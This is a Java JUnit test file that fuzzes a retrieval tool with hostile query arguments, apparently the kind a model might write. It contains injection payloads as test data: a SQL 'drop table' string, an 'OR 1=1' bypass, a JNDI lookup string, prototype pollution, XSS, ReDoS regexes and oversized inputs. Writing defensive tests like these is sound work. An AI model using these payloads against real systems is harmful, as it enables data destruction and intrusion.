/*
 * Copyright 2026 The Headroom Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License"); you may not use this file except in compliance
 * with the License. You may obtain a copy of the License at https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software distributed under the License is distributed on
 * an "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the License for the
 * specific language governing permissions and limitations under the License.
 */
package dev.headroom.engine.ccr;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.headroom.engine.ccr.RetrievalAnswer.Outcome;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a model writes into the arguments is answered soon, briefly and without an exception. */
final class HostileRetrievalTest {

    private static final String TENANT = "a";

    private final FakeClock clock = new FakeClock();
    private final CcrStore store = InMemoryCcrStore.create(10_000_000, Duration.ofHours(1), clock);
    private final RetrievalTool tool = RetrievalTool.create();

    private String put(String content) {
        CcrEntry entry = CcrEntry.of(TENANT, content, "search", clock.instant());
        store.put(entry);
        return entry.ref().value();
    }

    private static String users() {
        StringBuilder users = new StringBuilder("[");
        for (int i = 0; i < 1_000; i++) {
            users.append(i == 0 ? "" : ",").append("{\"user_id\":").append(i).append(",\"name\":\"user\"}");
        }
        return users.append(']').toString();
    }

    static Stream<String> hostile() {
        return Stream.of(
                "(".repeat(1_000_000),
                "not ".repeat(1_000_000),
                "(".repeat(2_000),
                "not ".repeat(500) + "user_id = 1",
                "user_id = '" + "x".repeat(1_000_000),
                "name like '" + "%a".repeat(400) + "'",
                "user_id = 1" + " or user_id = 1".repeat(600),
                "user_id in (" + "1,".repeat(4_000) + "1)",
                "'; drop table users; --",
                "user_id = 1e999999999",
                "user_id > " + "9".repeat(9_000),
                "a.b".repeat(2_000),
                "user_id[99999999999999999999] = 1",
                "\u0000\uD800",
                "`" + "x".repeat(5_000) + "` = 1",
                "user_id = user_id = user_id",
                "1 = 1",
                "or",
                "__proto__.constructor = 1",
                "${jndi:ldap://example.com/a} = 1",
                "name = (a+)+$");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void answersHostileConditionsSoonAndBriefly(String where) {
        String ref = put(users());

        RetrievalAnswer answer = assertTimeoutPreemptively(
                Duration.ofSeconds(2),
                () -> tool.execute(store, TENANT, RetrievalQuery.of(ref).where(where)));

        assertThat(answer.text()).isNotBlank().hasSizeLessThan(16_001);
        if (answer.outcome() == Outcome.BAD_QUERY) {
            assertThat(answer.text()).hasSizeLessThan(600);
        }
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void answersHostileSelectionsQueriesAndRowsSoonAndBriefly(String text) {
        String ref = put(users());

        List<RetrievalAnswer> answers = assertTimeoutPreemptively(
                Duration.ofSeconds(4),
                () -> List.of(
                        tool.execute(store, TENANT, RetrievalQuery.of(ref).select(text)),
                        tool.execute(store, TENANT, RetrievalQuery.of(ref).query(text)),
                        tool.execute(store, TENANT, RetrievalQuery.of(ref).rows(text)),
                        tool.execute(store, TENANT, text)));

        assertThat(answers)
                .allSatisfy(answer -> assertThat(answer.text()).isNotBlank().hasSizeLessThan(16_001));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "(a+)+$",
                "^(([a-z])+.)+[A-Z]([a-z])+$",
                "(a|aa)+$",
                "(.*a){20}",
                "",
                " ",
                "' OR 1=1 --",
                "<script>alert(1)</script>",
                "\u0000",
                "\uD83D\uDE00"
            })
    void takesRegularExpressionsAndOtherBombsForWords(String words) {
        String ref = put("[\"" + "a".repeat(100_000) + "!\",\"b\"]");

        RetrievalAnswer answer = assertTimeoutPreemptively(
                Duration.ofSeconds(2),
                () -> tool.execute(store, TENANT, RetrievalQuery.of(ref).query(words)));

        assertThat(answer.outcome()).isIn(Outcome.FOUND, Outcome.EMPTY);
    }

    @Test
    void answersAnyHeapOfWordsWithoutThrowing() {
        List<String> words = List.of(
                "level",
                "ms",
                "meta",
                ".",
                "host",
                "[",
                "0",
                "]",
                "=",
                "!=",
                "<",
                ">=",
                "and",
                "or",
                "not",
                "(",
                ")",
                "'ERROR'",
                "\"a\"",
                "50",
                "1e999",
                "like",
                "'%a_'",
                "in",
                ",",
                "is",
                "null",
                "between",
                "true",
                "`x`",
                "count",
                "(*)",
                "sum",
                "avg",
                "max",
                "order by",
                "desc",
                "group by",
                "distinct",
                "as",
                "*",
                "'",
                "-",
                "@",
                "1-3",
                "row",
                "\\",
                "\u0000");
        String json = put("""
            {"n": 3, "rows": [{"level": "ERROR", "ms": 50}, {"ms": 1e400, "meta": {"host": ["a", null]}},
             {"level": null, "x": {}}]}\
            """);
        String lines = put("a\n50\n\n");
        Random random = new Random(20_260_102);
        int found = 0;

        for (int i = 0; i < 20_000; i++) {
            RetrievalQuery query = RetrievalQuery.of(i % 4 == 0 ? lines : json)
                    .where(random.nextInt(3) == 0 ? "" : heap(words, random))
                    .select(random.nextInt(3) == 0 ? heap(words, random) : "")
                    .rows(random.nextInt(9) == 0 ? heap(words, random) : "")
                    .query(random.nextInt(9) == 0 ? heap(words, random) : "");

            RetrievalAnswer answer = tool.execute(store, TENANT, query);

            assertThat(answer.text()).as("%s", query).isNotBlank().hasSizeLessThan(2_000);
            found += answer.outcome() == Outcome.FOUND ? 1 : 0;
        }

        assertThat(found).isGreaterThan(500);
    }

    private static String heap(List<String> words, Random random) {
        StringBuilder out = new StringBuilder();
        int count = 1 + random.nextInt(random.nextBoolean() ? 3 : 12);
        for (int i = 0; i < count; i++) {
            out.append(words.get(random.nextInt(words.size()))).append(random.nextInt(5) == 0 ? "" : " ");
        }
        return out.toString();
    }
}
